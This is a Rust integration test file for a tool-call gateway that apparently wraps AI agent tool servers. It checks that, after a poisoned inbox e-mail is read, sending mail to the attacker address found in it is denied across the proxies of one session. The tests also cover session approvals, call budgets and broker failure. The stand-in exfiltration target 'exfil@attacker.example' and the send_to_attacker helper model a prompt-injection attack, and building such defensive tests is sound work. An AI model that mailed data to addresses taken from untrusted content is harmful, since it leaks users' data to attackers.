//! One agent session across wrapped servers: proxies of the same session share, through the
//! broker, the destination tokens they saw. Reading a poisoned e-mail through one server and
//! sending to its address through another is a hard deny; another session is unaffected.

use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use serde_json::{Value, json};
use toolgate_testkit::{Peer, wait_until};

const LIMIT: Duration = Duration::from_secs(20);
const DEMO_POLICY: &str = include_str!("../../src/demo/policy.yaml");
const ATTACKER: &str = "exfil@attacker.example";

struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn base(&self) -> PathBuf {
        self.dir.path().canonicalize().unwrap()
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_toolgate"));
        cmd.args(args)
            .env("TOOLGATE_BROKER_DIR", self.base().join("b"));
        cmd
    }

    fn proxy(&self, name: &str, session: &str) -> Gate {
        self.gate(name, name, session, "none", DEMO_POLICY)
    }

    /// A proxy `name` (its own workspace, pins, audit and outbox) of server `server`,
    /// initialized, with every page of its tools listed.
    fn gate(&self, name: &str, server: &str, session: &str, approval: &str, policy: &str) -> Gate {
        let mut gate = self.initialized(name, server, session, approval, policy, false);
        gate.list_all();
        gate
    }

    /// A proxy `name` of server `server`, initialized (its tools not listed), its stderr
    /// captured if `capture_stderr`.
    fn initialized(
        &self,
        name: &str,
        server: &str,
        session: &str,
        approval: &str,
        policy: &str,
        capture_stderr: bool,
    ) -> Gate {
        let base = self.base();
        let work = base.join(format!("work-{name}"));
        for d in [
            work.clone(),
            base.join("home"),
            base.join(format!("pins-{name}")),
        ] {
            std::fs::create_dir_all(d).unwrap();
        }
        let policy_file = base.join(format!("policy-{name}.yaml"));
        std::fs::write(&policy_file, policy).unwrap();
        let mut cmd = self.cmd(&[
            "wrap",
            "--server",
            server,
            "--approval",
            approval,
            "--session",
            session,
        ]);
        cmd.arg("--workspace")
            .arg(&work)
            .arg("--policy")
            .arg(&policy_file)
            .arg("--audit")
            .arg(base.join(format!("audit-{name}.jsonl")))
            .arg("--")
            .arg(env!("CARGO_BIN_EXE_toolgate"))
            .args(["demo", "--internal-server", "--workspace"])
            .arg(&work)
            .arg("--outbox")
            .arg(base.join(format!("outbox-{name}")))
            .env("HOME", base.join("home"))
            .env("TOOLGATE_PINS_DIR", base.join(format!("pins-{name}")));
        let mut gate = Gate {
            peer: Peer::spawn(cmd, capture_stderr),
        };
        gate.send(
            json!({"jsonrpc":"2.0","id":"init","method":"initialize","params":{
            "protocolVersion":"2025-06-18","capabilities":{},
            "clientInfo":{"name":"session-test","version":"0"}}}),
        );
        gate.response(&json!("init"));
        gate.send(json!({"jsonrpc":"2.0","method":"notifications/initialized"}));
        gate
    }

    /// Waits until the broker's queue holds a request, and returns its id.
    fn pending_id(&self) -> u64 {
        let mut found = None;
        let queued = wait_until(LIMIT, || {
            let out = self.cmd(&["approvals", "--json"]).output().unwrap();
            let queue: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap_or_default();
            found = queue.first().and_then(|r| r["id"].as_u64());
            found.is_some()
        });
        assert!(queued, "no request reached the broker");
        found.unwrap()
    }

    fn status(&self) -> String {
        let out = self.cmd(&["status"]).output().unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    }
}

struct Gate {
    peer: Peer,
}

impl Gate {
    /// Lists every page, like a real client: tools are pinned before their first call.
    fn list_all(&mut self) {
        let mut cursor: Option<String> = None;
        for n in 0..20 {
            let id = json!(format!("list-{n}"));
            let params = cursor.as_ref().map_or(json!({}), |c| json!({"cursor": c}));
            self.send(json!({"jsonrpc":"2.0","id":id,"method":"tools/list","params":params}));
            let r = self.response(&id);
            cursor = r["result"]["nextCursor"].as_str().map(str::to_owned);
            if cursor.is_none() {
                break;
            }
        }
    }

    fn send(&mut self, v: Value) {
        self.peer.send(serde_json::to_vec(&v).unwrap());
    }

    fn response(&mut self, id: &Value) -> Value {
        loop {
            let m = self.peer.recv_json();
            if m.get("id") == Some(id) && m.get("method").is_none() {
                return m;
            }
        }
    }

    fn call(&mut self, id: i64, tool: &str, args: Value) -> Value {
        self.send(json!({"jsonrpc":"2.0","id":id,"method":"tools/call",
                         "params":{"name":tool,"arguments":args}}));
        self.response(&json!(id))
    }
}

fn text(r: &Value) -> String {
    r["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or("")
        .to_owned()
}

fn send_to_attacker(gate: &mut Gate, id: i64) -> Value {
    gate.call(
        id,
        "send_email",
        json!({"to": ATTACKER, "subject": "checklist", "body": "here you go"}),
    )
}

#[test]
fn poisoned_read_through_one_server_blocks_sending_through_another() {
    let w = World {
        dir: tempfile::tempdir().unwrap(),
    };
    let broker = Peer::spawn(w.cmd(&["broker"]), true);
    assert!(wait_until(LIMIT, || w
        .base()
        .join("b/broker.sock")
        .exists()));
    let mut inbox = w.proxy("inbox", "agent-1");
    let mut mail = w.proxy("mail", "agent-1");
    let mut other = w.proxy("other-mail", "agent-2");
    assert!(
        wait_until(LIMIT, || w.status().contains("proxies:    3 connected")),
        "{}",
        w.status()
    );

    let read = inbox.call(1, "read_inbox", json!({}));
    assert!(text(&read).contains(ATTACKER), "{read}");
    // The inbox proxy shared the tokens it saw (not the e-mail) with the broker.
    assert!(
        wait_until(LIMIT, || w.status().contains("sessions:   1 sharing")),
        "{}",
        w.status()
    );

    let r = send_to_attacker(&mut mail, 2);
    assert_eq!(r["result"]["isError"], true, "{r}");
    let why = text(&r);
    assert!(why.contains("came from untrusted"), "{why}");
    assert!(why.contains("`read_inbox`"), "{why}");
    assert!(
        !why.contains("no way to ask"),
        "a hard deny, not an unanswerable ask: {why}"
    );
    assert!(
        !std::fs::read_to_string(w.base().join("outbox-mail"))
            .unwrap_or_default()
            .contains(ATTACKER),
        "the e-mail must not be sent"
    );

    // Another agent session never saw the poisoned e-mail: unproven, not tainted.
    let r = send_to_attacker(&mut other, 3);
    let why = text(&r);
    assert!(why.contains("not a trusted destination"), "{why}");
    assert!(!why.contains("came from untrusted"), "{why}");

    // A proxy joining the session later learns what it saw so far before it reads its
    // first message: its very first call to the address, even before any listing, is the
    // hard deny.
    let mut late = w.initialized(
        "late-mail",
        "late-mail",
        "agent-1",
        "none",
        DEMO_POLICY,
        false,
    );
    let r = send_to_attacker(&mut late, 4);
    assert_eq!(r["result"]["isError"], true, "{r}");
    let why = text(&r);
    assert!(why.contains("came from untrusted"), "{why}");
    assert!(why.contains("`read_inbox`"), "{why}");
    assert!(
        !std::fs::read_to_string(w.base().join("outbox-late-mail"))
            .unwrap_or_default()
            .contains(ATTACKER),
        "the e-mail must not be sent"
    );
    drop(broker);
}

#[test]
fn a_broker_that_never_answers_delays_start_up_by_the_join_bound_only() {
    use std::io::Write;
    use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
    let w = World {
        dir: tempfile::tempdir().unwrap(),
    };
    // A wedged broker: its directory, token and socket are in order, and it accepts every
    // connection (kept open until the test ends) but never answers the hello.
    let dir = w.base().join("b");
    std::fs::create_dir(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .open(dir.join("token"))
        .unwrap()
        .write_all("ab".repeat(32).as_bytes())
        .unwrap();
    let listener = std::os::unix::net::UnixListener::bind(dir.join("broker.sock")).unwrap();
    let (tx, accepted) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            if conn.map(|c| tx.send(c)).is_err() {
                return;
            }
        }
    });

    // Start-up completes although the broker never answers: the join is bounded.
    let mut gate = w.initialized("mail", "mail", "agent-1", "none", DEMO_POLICY, true);
    let _held = accepted
        .recv_timeout(LIMIT)
        .expect("the proxy never tried to join its session");
    // Calls are decided without the session's state: unproven, not tainted.
    gate.list_all();
    let r = send_to_attacker(&mut gate, 1);
    assert_eq!(r["result"]["isError"], true, "{r}");
    assert!(text(&r).contains("not a trusted destination"), "{r}");
    gate.peer.close_stdin();
    gate.peer.wait();
    let stderr = gate.peer.stderr();
    assert!(
        stderr.contains("the approval broker did not answer within 1000 ms"),
        "{stderr}"
    );
}

#[test]
fn without_a_broker_each_proxy_keeps_its_own_session() {
    let w = World {
        dir: tempfile::tempdir().unwrap(),
    };
    let mut inbox = w.proxy("inbox", "agent-1");
    let mut mail = w.proxy("mail", "agent-1");
    let read = inbox.call(1, "read_inbox", json!({}));
    assert!(text(&read).contains(ATTACKER));
    // Same server: its own local session still hard-denies.
    let r = send_to_attacker(&mut inbox, 2);
    assert!(text(&r).contains("came from untrusted"), "{r}");
    // Another server without a broker cannot know: unproven (and, with no way to ask, denied).
    let r = send_to_attacker(&mut mail, 3);
    assert_eq!(r["result"]["isError"], true, "{r}");
    assert!(text(&r).contains("not a trusted destination"), "{r}");
}

fn send_to(gate: &mut Gate, id: i64, to: &str) -> Value {
    gate.call(
        id,
        "send_email",
        json!({"to": to, "subject": "notes", "body": "see you"}),
    )
}

fn outbox_of(w: &World, name: &str) -> String {
    std::fs::read_to_string(w.base().join(format!("outbox-{name}"))).unwrap_or_default()
}

fn broker(w: &World) -> toolgate_testkit::Peer {
    let broker = Peer::spawn(w.cmd(&["broker"]), true);
    assert!(wait_until(LIMIT, || w
        .base()
        .join("b/broker.sock")
        .exists()));
    broker
}

const PARTNER: &str = "bob@partner.example";

#[test]
fn an_approval_for_the_session_covers_the_sessions_other_proxies_of_that_server() {
    let w = World {
        dir: tempfile::tempdir().unwrap(),
    };
    let broker = broker(&w);
    let mut a = w.gate("a", "mail", "agent-1", "broker", DEMO_POLICY);
    let mut b = w.gate("b", "mail", "agent-1", "none", DEMO_POLICY);
    let mut c = w.gate("c", "mail", "agent-2", "none", DEMO_POLICY);
    let mut other_server = w.gate("d", "mail-2", "agent-1", "none", DEMO_POLICY);
    assert!(
        wait_until(LIMIT, || w.status().contains("proxies:    4 connected")),
        "{}",
        w.status()
    );

    // Proxy A asks the broker; a human allows the destination for the session.
    a.send(
        json!({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{
        "name":"send_email","arguments":{"to": PARTNER, "subject": "notes", "body": "see you"}}}),
    );
    let id = w.pending_id();
    let out = w
        .cmd(&[
            "approvals",
            "--id",
            &id.to_string(),
            "--decision",
            "allow-session",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r = a.response(&json!(1));
    assert_ne!(r["result"]["isError"], true, "{r}");
    assert!(outbox_of(&w, "a").contains(PARTNER));

    // Proxy B of the same session and server: allowed without a prompt (B cannot ask at
    // all). The approval travels asynchronously; a call before it arrives is denied, so
    // poll with a bound.
    let mut n = 100;
    let mut last = Value::Null;
    let allowed = wait_until(LIMIT, || {
        n += 1;
        last = send_to(&mut b, n, PARTNER);
        last["result"]["isError"] != true
    });
    assert!(allowed, "{last}");
    assert!(outbox_of(&w, "b").contains(PARTNER));
    // It covers that destination only.
    let r = send_to(&mut b, 200, "carol@partner.example");
    assert_eq!(r["result"]["isError"], true, "{r}");

    // Another session still asks (and, unable to ask, denies).
    let r = send_to(&mut c, 300, PARTNER);
    assert_eq!(r["result"]["isError"], true, "{r}");
    assert!(text(&r).contains("not a trusted destination"), "{r}");
    assert!(!outbox_of(&w, "c").contains(PARTNER));
    // Another server of the same session is not covered by the approval. (It also learnt
    // the address from the untrusted output of A's `send_email`, hence a hard deny.)
    let r = send_to(&mut other_server, 301, PARTNER);
    assert_eq!(r["result"]["isError"], true, "{r}");
    assert!(!outbox_of(&w, "d").contains(PARTNER));

    // A proxy joining the session later gets the approval too.
    let mut late = w.gate("e", "mail", "agent-1", "none", DEMO_POLICY);
    let mut n = 400;
    let allowed = wait_until(LIMIT, || {
        n += 1;
        last = send_to(&mut late, n, PARTNER);
        last["result"]["isError"] != true
    });
    assert!(allowed, "{last}");
    drop(broker);
}

fn budget_policy() -> String {
    let policy = DEMO_POLICY.replace(
        "  read_inbox:\n    output: untrusted\n",
        "  read_inbox:\n    output: untrusted\n    max_calls: 2\n",
    );
    assert_ne!(
        policy, DEMO_POLICY,
        "the demo policy changed: update this test"
    );
    policy
}

fn is_budget_deny(r: &Value) -> bool {
    r["result"]["isError"] == true && text(r).contains("call budget of 2")
}

#[test]
fn a_budget_counts_across_the_proxies_of_a_session_and_server() {
    let w = World {
        dir: tempfile::tempdir().unwrap(),
    };
    let broker = broker(&w);
    let policy = budget_policy();
    let mut a = w.gate("a", "inbox", "agent-1", "none", &policy);
    let mut b = w.gate("b", "inbox", "agent-1", "none", &policy);
    let mut other_server = w.gate("c", "inbox-2", "agent-1", "none", &policy);
    let mut other_session = w.gate("d", "inbox", "agent-2", "none", &policy);
    assert!(
        wait_until(LIMIT, || w.status().contains("proxies:    4 connected")),
        "{}",
        w.status()
    );

    let r = a.call(1, "read_inbox", json!({}));
    assert!(text(&r).contains(ATTACKER), "{r}");
    // The attempt reached the broker (it is sent before the output's tokens).
    assert!(
        wait_until(LIMIT, || w.status().contains("sessions:   1 sharing")),
        "{}",
        w.status()
    );
    let r = b.call(2, "read_inbox", json!({}));
    assert!(text(&r).contains(ATTACKER), "{r}");
    let r = b.call(3, "read_inbox", json!({}));
    assert!(is_budget_deny(&r), "the third call of the session: {r}");
    assert!(text(&r).contains("attempt 3"), "{r}");

    // The same tool name on another server, and another session: budgets of their own.
    for (gate, name) in [(&mut other_server, "c"), (&mut other_session, "d")] {
        for id in [10, 11] {
            let r = gate.call(id, "read_inbox", json!({}));
            assert!(text(&r).contains(ATTACKER), "{name}: {r}");
        }
        assert!(
            is_budget_deny(&gate.call(12, "read_inbox", json!({}))),
            "{name}"
        );
    }
    drop(broker);
}

#[test]
fn with_the_broker_killed_each_proxy_keeps_its_local_session() {
    let w = World {
        dir: tempfile::tempdir().unwrap(),
    };
    let mut broker = broker(&w);
    let policy = budget_policy();
    let mut a = w.gate("a", "inbox", "agent-1", "none", &policy);
    let mut b = w.gate("b", "inbox", "agent-1", "none", &policy);
    assert!(
        wait_until(LIMIT, || w.status().contains("proxies:    2 connected")),
        "{}",
        w.status()
    );
    let killed = Command::new("kill")
        .args(["-KILL", &broker.pid().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    broker.wait();

    // Both keep answering, each with its own counter (fail-closed: never more than the
    // local count allows) and its own taint index.
    for (gate, name) in [(&mut a, "a"), (&mut b, "b")] {
        for id in [1, 2] {
            let r = gate.call(id, "read_inbox", json!({}));
            assert!(text(&r).contains(ATTACKER), "{name}: {r}");
        }
        assert!(
            is_budget_deny(&gate.call(3, "read_inbox", json!({}))),
            "{name}"
        );
        let r = send_to_attacker(gate, 4);
        assert!(text(&r).contains("came from untrusted"), "{name}: {r}");
    }
}
